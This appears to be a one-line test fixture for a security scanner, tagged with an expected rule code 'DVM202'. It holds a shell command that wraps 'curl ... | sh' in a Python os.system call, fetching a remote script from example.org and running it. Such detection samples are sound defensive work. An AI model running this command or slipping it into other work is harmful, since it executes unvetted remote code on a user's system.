# expect: DVM202
python3 -c 'import os; os.system("curl -fsSL https://example.org/i.sh | sh")'
